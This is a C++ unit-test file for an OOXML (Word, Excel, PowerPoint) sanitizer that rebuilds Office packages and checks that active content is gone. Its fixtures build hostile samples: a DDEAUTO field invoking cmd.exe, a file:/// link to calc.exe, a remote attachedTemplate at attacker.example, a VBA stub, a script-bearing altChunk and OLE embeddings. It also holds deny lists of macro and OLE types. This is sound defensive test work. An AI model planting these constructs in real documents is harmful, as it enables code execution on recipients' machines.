// Tests for the OOXML rebuilder. Every check re-opens the rebuilt zip with libzip and parses its
// XML with libxml2: the findings are checked too, but never instead of the output.
#include "sanitizers/ooxml/ooxml_sanitizer.h"

#include <doctest/doctest.h>
#include <gmime/gmime.h>
#include <libxml/parser.h>
#include <libxml/tree.h>
#include <unistd.h>
#include <zip.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <set>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "core/limits.h"
#include "core/pipeline.h"
#include "core/policy.h"
#include "core/sniff.h"
#include "core/zip_writer.h"
#include "unit/test_support.h"

namespace {

using mugai::core::Disposition;
using mugai::core::Limits;
using mugai::sanitizers::PartInput;
using mugai::sanitizers::PartOutput;
using mugai::sanitizers::ooxml::OoxmlSanitizer;
using Files = std::vector<std::pair<std::string, std::string>>;
using mugai::testing::thirdPartyRoot;

const std::string kPng(
    "\x89\x50\x4E\x47\x0D\x0A\x1A\x0A\x00\x00\x00\x0D\x49\x48\x44\x52\x00\x00\x00\x01\x00\x00"
    "\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53\xDE\x00\x00\x00\x0C\x49\x44\x41\x54\x78\x9C\x63"
    "\xF8\xCF\xC0\x00\x00\x03\x01\x01\x00\xC9\xFE\x92\xEF\x00\x00\x00\x00\x49\x45\x4E\x44\xAE"
    "\x42\x60\x82",
    69);

constexpr const char* kDecl = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>";
constexpr const char* kRelsNs = "http://schemas.openxmlformats.org/package/2006/relationships";
constexpr const char* kR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
constexpr const char* kMs = "http://schemas.microsoft.com/office/2006/relationships/";
constexpr const char* kW = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

// Builds an in-memory zip with libzip (names written as given, deflated).
std::string makeZip(const Files& files) {
  zip_error_t err;
  zip_error_init(&err);
  zip_source_t* buf = zip_source_buffer_create(nullptr, 0, 0, &err);
  zip_t* za = zip_open_from_source(buf, ZIP_TRUNCATE, &err);
  REQUIRE(za != nullptr);
  zip_source_keep(buf);
  for (const auto& file : files) {
    // Plain names, not a structured binding: clang before 16 cannot capture one.
    const std::string& name = file.first;
    const std::string& bytes = file.second;
    zip_source_t* s = zip_source_buffer(za, bytes.data(), bytes.size(), 0);
    REQUIRE(zip_file_add(za, name.c_str(), s, ZIP_FL_ENC_UTF_8) >= 0);
  }
  REQUIRE(zip_close(za) == 0);
  zip_stat_t st;
  zip_stat_init(&st);
  REQUIRE(zip_source_stat(buf, &st) == 0);
  REQUIRE(zip_source_open(buf) == 0);
  std::string out(st.size, '\0');
  REQUIRE(zip_source_read(buf, out.data(), st.size) == static_cast<zip_int64_t>(st.size));
  zip_source_close(buf);
  zip_source_free(buf);
  zip_error_fini(&err);
  return out;
}

// Opens a zip and returns its entries in central-directory order (bounded: test data only).
Files readZip(const std::string& bytes) {
  Files out;
  zip_error_t err;
  zip_error_init(&err);
  zip_source_t* src = zip_source_buffer_create(bytes.data(), bytes.size(), 0, &err);
  zip_t* za = zip_open_from_source(src, ZIP_RDONLY | ZIP_CHECKCONS, &err);
  zip_error_fini(&err);
  if (za == nullptr) {
    zip_source_free(src);
    return out;
  }
  const zip_int64_t n = zip_get_num_entries(za, 0);
  for (zip_int64_t i = 0; i < n; ++i) {
    zip_stat_t st;
    if (zip_stat_index(za, i, 0, &st) != 0 || st.size > (64u << 20)) continue;
    std::string data(st.size, '\0');
    zip_file_t* f = zip_fopen_index(za, i, 0);
    if (f == nullptr) continue;
    const zip_int64_t got = zip_fread(f, data.data(), st.size);
    zip_fclose(f);
    if (got != static_cast<zip_int64_t>(st.size)) continue;
    out.emplace_back(st.name, std::move(data));
  }
  zip_discard(za);
  return out;
}

const std::string* entry(const Files& files, std::string_view name) {
  for (const auto& [n, b] : files) {
    if (n == name) return &b;
  }
  return nullptr;
}

bool hasEntryContaining(const Files& files, std::string_view needle) {
  return std::any_of(files.begin(), files.end(), [&](const auto& f) {
    std::string l = f.first;
    std::transform(l.begin(), l.end(), l.begin(), [](unsigned char c) { return std::tolower(c); });
    return l.find(needle) != std::string::npos;
  });
}

struct Xml {
  xmlDoc* doc = nullptr;
  explicit Xml(const std::string& s) {
    doc = xmlReadMemory(s.data(), static_cast<int>(s.size()), nullptr, nullptr,
                        XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
  }
  ~Xml() {
    if (doc != nullptr) xmlFreeDoc(doc);
  }
  Xml(const Xml&) = delete;
  Xml& operator=(const Xml&) = delete;
};

template <typename F>
void walk(xmlNode* n, F&& f) {
  for (; n != nullptr; n = n->next) {
    if (n->type != XML_ELEMENT_NODE) continue;
    f(n);
    walk(n->children, f);
  }
}

std::string content(xmlNode* n) {
  xmlChar* c = xmlNodeGetContent(n);
  std::string r = c != nullptr ? reinterpret_cast<const char*>(c) : "";
  xmlFree(c);
  return r;
}

std::string attrOf(xmlNode* n, const char* name) {
  for (xmlAttr* a = n->properties; a != nullptr; a = a->next) {
    if (std::string_view(reinterpret_cast<const char*>(a->name)) == name) {
      xmlChar* v = xmlNodeListGetString(n->doc, a->children, 1);
      std::string r = v != nullptr ? reinterpret_cast<const char*>(v) : "";
      xmlFree(v);
      return r;
    }
  }
  return {};
}

// Concatenated text of every element with local name `local` (w:t, instrText, f, …).
std::string textOf(const std::string& xml, std::string_view local) {
  Xml x(xml);
  if (x.doc == nullptr) return "<unparseable>";
  std::string r;
  walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
    if (std::string_view(reinterpret_cast<const char*>(n->name)) == local) r += content(n);
  });
  return r;
}

int countElements(const std::string& xml, std::string_view local) {
  Xml x(xml);
  if (x.doc == nullptr) return -1;
  int count = 0;
  walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
    if (std::string_view(reinterpret_cast<const char*>(n->name)) == local) ++count;
  });
  return count;
}

// Every relationship of every .rels part in the output: {part, Type, Target, TargetMode}.
struct RelRow {
  std::string part, type, target, mode;
};
std::vector<RelRow> relsOf(const Files& files) {
  std::vector<RelRow> rows;
  for (const auto& file : files) {
    // Plain names, not a structured binding: clang before 16 cannot capture one.
    const std::string& name = file.first;
    const std::string& bytes = file.second;
    if (name.size() < 5 || name.compare(name.size() - 5, 5, ".rels") != 0) continue;
    Xml x(bytes);
    if (x.doc == nullptr) {
      rows.push_back({name, "<unparseable>", "", ""});
      continue;
    }
    walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
      if (std::string_view(reinterpret_cast<const char*>(n->name)) != "Relationship") return;
      rows.push_back({name, attrOf(n, "Type"), attrOf(n, "Target"), attrOf(n, "TargetMode")});
    });
  }
  return rows;
}

bool externalTargetIsWebOrMail(const RelRow& r) {
  if (r.mode != "External") return true;
  std::string t = r.target;
  std::transform(t.begin(), t.end(), t.begin(), [](unsigned char c) { return std::tolower(c); });
  return t.rfind("http://", 0) == 0 || t.rfind("https://", 0) == 0 || t.rfind("mailto:", 0) == 0;
}

std::string lowered(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
  return s;
}

std::string relsPartFor(const std::string& part) {
  const std::size_t slash = part.rfind('/');
  if (slash == std::string::npos) return "_rels/" + part + ".rels";
  return part.substr(0, slash) + "/_rels/" + part.substr(slash + 1) + ".rels";
}

// A part's relationships by Id: {Type, the entry the Target designates}, resolved the OPC way
// (relative to the part's folder, or from the package root with a leading '/').
std::map<std::string, std::pair<std::string, std::string>> relsById(const Files& files,
                                                                    const std::string& part) {
  std::map<std::string, std::pair<std::string, std::string>> out;
  const std::string* rels = entry(files, relsPartFor(part));
  if (rels == nullptr) return out;
  Xml x(*rels);
  if (x.doc == nullptr) return out;
  walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
    if (std::string_view(reinterpret_cast<const char*>(n->name)) != "Relationship") return;
    std::string t = attrOf(n, "Target");
    std::string path;
    if (!t.empty() && t[0] == '/') {
      path = t.substr(1);
    } else {
      const std::size_t slash = part.rfind('/');
      path = (slash == std::string::npos ? std::string{} : part.substr(0, slash + 1)) + t;
    }
    std::vector<std::string> segs;
    std::size_t start = 0;
    while (start <= path.size()) {
      const std::size_t end = std::min(path.find('/', start), path.size());
      const std::string seg = path.substr(start, end - start);
      if (seg == "..") {
        if (!segs.empty()) segs.pop_back();
      } else if (!seg.empty() && seg != ".") {
        segs.push_back(seg);
      }
      start = end + 1;
    }
    std::string joined;
    for (const std::string& seg : segs) joined += (joined.empty() ? "" : "/") + seg;
    out[attrOf(n, "Id")] = {attrOf(n, "Type"), joined};
  });
  return out;
}

// Everything in a rebuilt package that would still be active content or a remote reference,
// found by reading the package itself (entry names, content types, relationships and the XML
// of every part). Empty when the package is clean.
std::vector<std::string> activeContent(const Files& out) {
  std::vector<std::string> problems;
  for (const char* bad : {"vbaproject", "vbadata", "activex", "embeddings", "oleobject",
                          "externallink", "customui", "macrosheet", "dialogsheet", "afchunk",
                          "webextension", "connections.xml", "querytable"}) {
    if (hasEntryContaining(out, bad)) problems.push_back(std::string("entry ") + bad);
  }
  if (const std::string* ct = entry(out, "[Content_Types].xml")) {
    const std::string l = lowered(*ct);
    for (const char* bad : {"macroenabled", "vba", "activex", "oleobject", "macrosheet",
                            "dialogsheet", ".template.", ".slideshow."}) {
      if (l.find(bad) != std::string::npos) problems.push_back(std::string("content type ") + bad);
    }
  } else {
    problems.push_back("no [Content_Types].xml");
  }
  std::map<std::string, std::vector<std::string>> idsByRels;
  for (const RelRow& r : relsOf(out)) {
    if (!externalTargetIsWebOrMail(r)) problems.push_back("external " + r.target);
    const std::string seg = lowered(r.type.substr(r.type.rfind('/') + 1));
    for (const char* bad : {"vbaproject", "oleobject", "control", "afchunk", "attachedtemplate",
                            "externallink", "externallinkpath", "connections", "querytable",
                            "xlmacrosheet", "xlintlmacrosheet", "dialogsheet", "webextension",
                            "webextensiontaskpanes", "frame", "subdocument", "package",
                            "extensibility", "activexcontrolbinary", "wordvbadata"}) {
      if (seg == bad) problems.push_back("relationship " + seg);
    }
  }
  for (const auto& file : out) {
    // Plain names, not a structured binding: clang before 16 cannot capture one.
    const std::string& name = file.first;
    const std::string& data = file.second;
    if (name.size() < 5 || (name.compare(name.size() - 4, 4, ".xml") != 0 &&
                            name.compare(name.size() - 4, 4, ".vml") != 0)) {
      continue;
    }
    if (data.find("<!DOCTYPE") != std::string::npos || data.find("<!ENTITY") != std::string::npos) {
      problems.push_back(name + ": DTD");
    }
    Xml x(data);
    if (x.doc == nullptr) {
      problems.push_back(name + ": not XML");
      continue;
    }
    // The relationship ids this part may use.
    std::vector<std::string> ids;
    if (const std::string* r = entry(out, relsPartFor(name))) {
      Xml rx(*r);
      if (rx.doc != nullptr) {
        walk(xmlDocGetRootElement(rx.doc), [&](xmlNode* n) {
          if (std::string_view(reinterpret_cast<const char*>(n->name)) == "Relationship") {
            ids.push_back(attrOf(n, "Id"));
          }
        });
      }
    }
    walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
      const std::string_view local = reinterpret_cast<const char*>(n->name);
      const std::string text = lowered(content(n));
      if ((local == "instrText" || local == "delInstrText") &&
          (text.find("dde") != std::string::npos || text.find("include") != std::string::npos)) {
        problems.push_back(name + ": field " + text);
      }
      if (local == "fldSimple") {
        const std::string in = lowered(attrOf(n, "instr"));
        if (in.find("dde") != std::string::npos || in.find("include") != std::string::npos) {
          problems.push_back(name + ": simple field " + in);
        }
      }
      if ((local == "f" || local == "definedName") && text.find('|') != std::string::npos &&
          text.find('!', text.find('|')) != std::string::npos) {
        problems.push_back(name + ": DDE formula " + text);
      }
      if (local == "definedName" && lowered(attrOf(n, "name")).find("auto_") != std::string::npos) {
        problems.push_back(name + ": defined name " + attrOf(n, "name"));
      }
      for (const char* el : {"altChunk", "OLEObject", "oleObj", "objectEmbed", "objectLink",
                             "control", "macrosheet"}) {
        if (local == el) problems.push_back(name + ": element " + el);
      }
      const std::string action = lowered(attrOf(n, "action"));
      if (action.rfind("ppaction://program", 0) == 0 || action.rfind("ppaction://ole", 0) == 0 ||
          action.rfind("ppaction://macro", 0) == 0) {
        problems.push_back(name + ": action " + action);
      }
      for (xmlAttr* a = n->properties; a != nullptr; a = a->next) {
        const std::string_view ns =
            a->ns != nullptr ? reinterpret_cast<const char*>(a->ns->href) : "";
        if (ns.find("officeDocument/2006/relationships") == std::string_view::npos &&
            ns.find("ooxml/officeDocument/relationships") == std::string_view::npos) {
          continue;
        }
        xmlChar* v = xmlNodeListGetString(n->doc, a->children, 1);
        const std::string id = v != nullptr ? reinterpret_cast<const char*>(v) : "";
        xmlFree(v);
        if (std::find(ids.begin(), ids.end(), id) == ids.end()) {
          problems.push_back(name + ": dangling r:" +
                             reinterpret_cast<const char*>(a->name) + "=" + id);
        }
      }
    });
  }
  return problems;
}

std::string xmlEscapeForTest(std::string_view v) {
  std::string out;
  for (const char c : v) {
    if (c == '&') out += "&amp;";
    else if (c == '<') out += "&lt;";
    else if (c == '>') out += "&gt;";
    else if (c == '\'') out += "&apos;";
    else out += c;
  }
  return out;
}

bool hasFinding(const PartOutput& o, std::string_view code) {
  return std::any_of(o.findings.begin(), o.findings.end(),
                     [&](const auto& f) { return f.kind == code; });
}

PartOutput run(const std::string& bytes, std::string_view token, std::string name,
               const Limits& limits = Limits{}) {
  PartInput in;
  in.bytes = bytes;
  in.trueType = token;
  in.declaredType = "application/octet-stream";
  in.names = {std::move(name)};
  in.limits = &limits;
  return OoxmlSanitizer{}.sanitize(in);
}

std::string rels(const std::vector<std::vector<std::string>>& rows) {
  std::string x = std::string(kDecl) + "<Relationships xmlns=\"" + kRelsNs + "\">";
  for (const auto& r : rows) {
    x += "<Relationship Id=\"" + r[0] + "\" Type=\"" + r[1] + "\" Target=\"" + r[2] + "\"";
    if (r.size() > 3) x += " TargetMode=\"External\"";
    x += "/>";
  }
  return x + "</Relationships>";
}

std::string contentTypes(std::string_view mainType, const std::string& mainPart,
                         const std::string& extra = "") {
  return std::string(kDecl) +
         "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
         "<Default Extension=\"rels\" "
         "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
         "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
         "<Default Extension=\"png\" ContentType=\"image/png\"/>"
         "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
         "<Override PartName=\"/" + mainPart + "\" ContentType=\"" + std::string(mainType) +
         "\"/>" + extra + "</Types>";
}

std::string wordDoc(const std::string& body) {
  return std::string(kDecl) + "<w:document xmlns:w=\"" + kW + "\" xmlns:r=\"" +
         std::string(kR).substr(0, std::string(kR).size() - 1) +
         "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body>" + body +
         "</w:body></w:document>";
}

std::string run_(const std::string& text) { return "<w:r><w:t>" + text + "</w:t></w:r>"; }
std::string instr(const std::string& text) {
  return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>";
}
std::string fldChar(const std::string& type) {
  return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>";
}

// A .docm with most of what a hostile Word file can carry.
Files hostileDocm() {
  const std::string body =
      "<w:p>" + run_("Hello") + "</w:p>"
      "<w:p><w:hyperlink r:id=\"rId3\">" + run_("good link") + "</w:hyperlink>"
      "<w:hyperlink r:id=\"rId4\">" + run_("bad link") + "</w:hyperlink></w:p>"
      // DDEAUTO split over three runs, with a cached result.
      "<w:p>" + fldChar("begin") + instr(" DD") +
      instr("EAUTO c:\\\\windows\\\\system32\\\\cmd.exe") +
      instr(" \"/k calc\" ") + fldChar("separate") + run_("RESULT") + fldChar("end") + "</w:p>"
      "<w:p><w:fldSimple w:instr=\" DDE excel &quot;x&quot; \">" + run_("SIMPLE") +
      "</w:fldSimple></w:p>"
      "<w:p><w:fldSimple w:instr=\" PAGE \">" + run_("7") + "</w:fldSimple></w:p>"
      "<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed=\"rId5\"/>"
      "</a:graphicData></a:graphic></w:drawing></w:r></w:p>"
      "<w:altChunk r:id=\"rId6\"/>";
  const std::string r = kR;
  return {
      {"[Content_Types].xml",
       contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml",
                    "<Override PartName=\"/word/settings.xml\" ContentType=\"application/"
                    "vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>")},
      {"_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}})},
      {"word/document.xml", wordDoc(body)},
      {"word/_rels/document.xml.rels",
       rels({{"rId1", std::string(kMs) + "vbaProject", "vbaProject.bin"},
             {"rId2", r + "settings", "settings.xml"},
             {"rId3", r + "hyperlink", "https://example.jp/a?b=1&amp;c=2", "x"},
             {"rId4", r + "hyperlink", "file:///C:/Windows/System32/calc.exe", "x"},
             {"rId5", r + "image", "media/image1.png"},
             {"rId6", r + "aFChunk", "afchunk.mht"}})},
      {"word/settings.xml", std::string(kDecl) + "<w:settings xmlns:w=\"" + kW +
                                "\" xmlns:r=\"" +
                                std::string(kR).substr(0, std::string(kR).size() - 1) +
                                "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"},
      {"word/_rels/settings.xml.rels",
       rels({{"rId1", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
      {"word/vbaProject.bin", std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + "vba"},
      {"word/afchunk.mht", "MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"},
      {"word/media/image1.png", kPng},
  };
}

constexpr const char* kXdr = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing";

// A one-sheet workbook around `sheet` (xl/worksheets/sheet1.xml) and its relationships, plus
// `more` entries; `types` adds content-type overrides.
Files oneSheetWorkbook(const std::string& sheet,
                       const std::vector<std::vector<std::string>>& sheetRels, Files more,
                       const std::string& types = "") {
  const std::string r = kR;
  Files files = {
      {"[Content_Types].xml",
       contentTypes("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "xl/workbook.xml",
                    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
                    "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>" + types)},
      {"_rels/.rels", rels({{"rId1", r + "officeDocument", "xl/workbook.xml"}})},
      {"xl/workbook.xml",
       std::string(kDecl) +
           "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
           "xmlns:r=\"" + r.substr(0, r.size() - 1) + "\"><sheets><sheet name=\"S\" "
           "sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
      {"xl/_rels/workbook.xml.rels", rels({{"rId1", r + "worksheet", "worksheets/sheet1.xml"}})},
      {"xl/worksheets/sheet1.xml", sheet},
      {"xl/worksheets/_rels/sheet1.xml.rels", rels(sheetRels)},
  };
  for (auto& f : more) files.push_back(std::move(f));
  return files;
}

// What a rebuilt sheet drawing shows: shape ids, anchor markers ("col,colOff,row,rowOff,") and
// the image each picture's blip leads to through the drawing's .rels.
struct DrawingView {
  std::vector<std::string> ids, markers, images;
};
DrawingView viewDrawing(const Files& out, const std::string& drawingName,
                        const std::string& imageType = std::string(kR) + "image") {
  DrawingView v;
  const std::string* drawing = entry(out, drawingName);
  REQUIRE(drawing != nullptr);
  Xml dx(*drawing);
  REQUIRE(dx.doc != nullptr);
  const auto drawingRels = relsById(out, drawingName);
  walk(xmlDocGetRootElement(dx.doc), [&](xmlNode* n) {
    const std::string_view name = reinterpret_cast<const char*>(n->name);
    if (name == "cNvPr") {
      v.ids.push_back(attrOf(n, "id"));
    } else if (name == "from" || name == "to") {
      std::string m;
      walk(n->children, [&](xmlNode* c) { m += content(c) + ","; });
      v.markers.push_back(m);
    } else if (name == "blip") {
      const auto it = drawingRels.find(attrOf(n, "embed"));
      const bool image = it != drawingRels.end() && it->second.first == imageType;
      const std::string* img = image ? entry(out, it->second.second) : nullptr;
      v.images.push_back(img == nullptr ? "<missing>" : *img);
    }
  });
  return v;
}

}  // namespace

// A .docx whose document.xml has `body`, with the document's relationships and more entries.
Files wordPackage(const std::string& body, const std::vector<std::vector<std::string>>& docRels,
                  Files more) {
  const std::string r = kR;
  Files files = {
      {"[Content_Types].xml",
       contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document."
                    "main+xml",
                    "word/document.xml")},
      {"_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}})},
      {"word/document.xml", wordDoc(body)},
      {"word/_rels/document.xml.rels", rels(docRels)},
  };
  for (auto& f : more) files.push_back(std::move(f));
  return files;
}

// Rebuilds a .docx that must come out rebuilt and without its embedded objects.
Files rebuildWithoutEmbeddings(const Files& files, PartOutput& o) {
  o = run(makeZip(files), "docx", "memo.docx");
  REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
  Files out = readZip(o.bytes);
  CHECK_FALSE(hasEntryContaining(out, "embeddings"));
  return out;
}

// The content of the image that relationship `id` of `part` leads to, or "<missing>" when the
// relationship is absent, of another type than `type`, or leads nowhere.
std::string imageBehind(const Files& out, const std::string& part, const std::string& id,
                        const std::string& type = std::string(kR) + "image") {
  const auto partRels = relsById(out, part);
  const auto rel = partRels.find(id);
  if (rel == partRels.end() || rel->second.first != type) return "<missing>";
  const std::string* img = entry(out, rel->second.second);
  return img == nullptr ? "<missing>" : *img;
}

// A one-slide deck whose slide holds an Excel OLE object with its preview (image1.png): in
// PowerPoint 2007's form (the preview only in the slide's VML drawing, found through spid) or
// in PowerPoint 2010+'s (mc:AlternateContent, the Fallback's p:oleObj carrying a p:pic).
Files pptxOleDeck(bool withVml) {
  const std::string r = kR;
  const std::string pns =
      "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
      "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"" +
      r.substr(0, r.size() - 1) + "\"";
  const std::string frameHead =
      "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"Object 3\"/>"
      "<p:cNvGraphicFramePr><a:graphicFrameLocks noChangeAspect=\"1\"/></p:cNvGraphicFramePr>"
      "<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"3131840\" y=\"3861048\"/>"
      "<a:ext cx=\"2956040\" cy=\"1236712\"/></p:xfrm><a:graphic><a:graphicData "
      "uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\">";
  const std::string frameTail = "</a:graphicData></a:graphic></p:graphicFrame>";
  const std::string ole =
      "<p:oleObj spid=\"_x0000_s1026\" name=\"Worksheet\" r:id=\"rId3\" imgW=\"1089000\" "
      "imgH=\"455760\" progId=\"Excel.Sheet.12\"><p:embed/>";
  // PowerPoint 2007: the preview lives only in the slide's VML drawing, found through spid.
  const std::string legacy = frameHead + ole + "</p:oleObj>" + frameTail;
  // PowerPoint 2010+: mc:AlternateContent, the Fallback's p:oleObj carries a p:pic.
  const std::string modern =
      "<mc:AlternateContent xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/"
      "2006\"><mc:Choice xmlns:v=\"urn:schemas-microsoft-com:vml\" Requires=\"v\">" + legacy +
      "</mc:Choice><mc:Fallback>" + frameHead + ole +
      "<p:pic><p:nvPicPr><p:cNvPr id=\"0\" name=\"\"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>"
      "<p:blipFill><a:blip r:embed=\"rId4\"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>"
      "<p:spPr><a:xfrm><a:off x=\"3131840\" y=\"3861048\"/><a:ext cx=\"2956040\" "
      "cy=\"1236712\"/></a:xfrm><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></p:spPr>"
      "</p:pic></p:oleObj>" + frameTail + "</mc:Fallback></mc:AlternateContent>";
  const std::string vml =
      "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" "
      "xmlns:o=\"urn:schemas-microsoft-com:office:office\"><v:shape id=\"_x0000_s1026\" "
      "type=\"#_x0000_t75\" style=\"position:absolute\"><v:imagedata o:relid=\"rId1\" "
      "o:title=\"\"/></v:shape></xml>";
  const std::string slide = std::string(kDecl) + "<p:sld " + pns +
                            "><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>Budget</a:t>"
                            "</a:r></a:p></p:txBody></p:sp>" + (withVml ? legacy : modern) +
                            "</p:spTree></p:cSld></p:sld>";
  std::vector<std::vector<std::string>> slideRels = {
      {"rId3", r + "oleObject", "../embeddings/oleObject1.bin"}};
  if (withVml) {
    slideRels.push_back({"rId1", r + "vmlDrawing", "../drawings/vmlDrawing1.vml"});
  } else {
    slideRels.push_back({"rId4", r + "image", "../media/image1.png"});
  }
  const Files files = {
      {"[Content_Types].xml",
       contentTypes("application/vnd.openxmlformats-officedocument.presentationml."
                    "presentation.main+xml",
                    "ppt/presentation.xml",
                    "<Override PartName=\"/ppt/slides/slide1.xml\" ContentType=\"application/"
                    "vnd.openxmlformats-officedocument.presentationml.slide+xml\"/>")},
      {"_rels/.rels", rels({{"rId1", r + "officeDocument", "ppt/presentation.xml"}})},
      {"ppt/presentation.xml", std::string(kDecl) + "<p:presentation " + pns +
                                   "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/>"
                                   "</p:sldIdLst></p:presentation>"},
      {"ppt/_rels/presentation.xml.rels", rels({{"rId1", r + "slide", "slides/slide1.xml"}})},
      {"ppt/slides/slide1.xml", slide},
      {"ppt/slides/_rels/slide1.xml.rels", rels(slideRels)},
      {"ppt/drawings/vmlDrawing1.vml", vml},
      {"ppt/drawings/_rels/vmlDrawing1.vml.rels",
       rels({{"rId1", r + "image", "../media/image1.png"}})},
      {"ppt/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 an OLE compound file"},
      {"ppt/media/image1.png", kPng},
  };
  return files;
}

// A one-sheet workbook with two Word OLE objects and their previews: object 1025 in Excel
// 2010+'s form (objectPr with the preview image1.png and its anchor, in AlternateContent),
// object 1026 in Excel 2007's (the preview image2.png and its anchor only in the VML drawing).
Files xlsxOleWorkbook() {
  const std::string r = kR;
  const std::string rns = r.substr(0, r.size() - 1);
  const std::string xdr = kXdr;
  // Object 1025: Excel 2010+ (objectPr with the preview and its anchor, in AlternateContent).
  // Object 1026: Excel 2007 (the preview and its anchor only in the VML drawing).
  const std::string sheet =
      std::string(kDecl) +
      "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
      "xmlns:r=\"" + rns + "\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-"
      "compatibility/2006\" xmlns:xdr=\"" + xdr + "\"><sheetData><row r=\"1\"><c r=\"A1\" "
      "t=\"inlineStr\"><is><t>Quote</t></is></c></row></sheetData>"
      "<pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" "
      "footer=\"0.3\"/><legacyDrawing r:id=\"rId2\"/><oleObjects><mc:AlternateContent>"
      "<mc:Choice Requires=\"x14\"><oleObject progId=\"Word.Document.12\" shapeId=\"1025\" "
      "r:id=\"rId3\"><objectPr defaultSize=\"0\" r:id=\"rId4\"><anchor moveWithCells=\"1\">"
      "<from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row>"
      "<xdr:rowOff>0</xdr:rowOff></from><to><xdr:col>4</xdr:col><xdr:colOff>304800"
      "</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></to></anchor></objectPr>"
      "</oleObject></mc:Choice><mc:Fallback><oleObject progId=\"Word.Document.12\" "
      "shapeId=\"1025\" r:id=\"rId3\"/></mc:Fallback></mc:AlternateContent>"
      "<oleObject progId=\"Package\" shapeId=\"1026\" r:id=\"rId5\"/></oleObjects></worksheet>";
  const std::string vml =
      "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" "
      "xmlns:o=\"urn:schemas-microsoft-com:office:office\" "
      "xmlns:x=\"urn:schemas-microsoft-com:office:excel\">"
      "<v:shape id=\"_x0000_s1025\" type=\"#_x0000_t75\"><v:imagedata o:relid=\"rId1\"/>"
      "<x:ClientData ObjectType=\"Pict\"><x:Anchor>1, 0, 2, 0, 4, 32, 9, 0</x:Anchor>"
      "</x:ClientData></v:shape>"
      "<v:shape id=\"_x0000_s1026\" type=\"#_x0000_t75\"><v:imagedata o:relid=\"rId2\"/>"
      "<x:ClientData ObjectType=\"Pict\"><x:Anchor>\n 6, 15, 4, 10, 8, 0, 7, 3</x:Anchor>"
      "<x:CF>Pict</x:CF></x:ClientData></v:shape></xml>";
  const std::string png2 = kPng + std::string(8, '\0');  // distinguishable, still a PNG
  const Files files = oneSheetWorkbook(
      sheet,
      {{"rId2", r + "vmlDrawing", "../drawings/vmlDrawing1.vml"},
       {"rId3", r + "oleObject", "../embeddings/oleObject1.bin"},
       {"rId4", r + "image", "../media/image1.png"},
       {"rId5", r + "oleObject", "../embeddings/oleObject2.bin"}},
      {{"xl/drawings/vmlDrawing1.vml", vml},
       {"xl/drawings/_rels/vmlDrawing1.vml.rels",
        rels({{"rId1", r + "image", "../media/image1.png"},
              {"rId2", r + "image", "../media/image2.png"}})},
       {"xl/embeddings/oleObject1.bin", "\xD0\xCF\x11\xE0 one"},
       {"xl/embeddings/oleObject2.bin", "\xD0\xCF\x11\xE0 two"},
       {"xl/media/image1.png", kPng},
       {"xl/media/image2.png", png2}});
  return files;
}

// The same package in Strict OOXML's vocabulary: every Transitional namespace and
// relationship type the builders above use, spelled under purl.oclc.org/ooxml.
Files toStrict(Files files) {
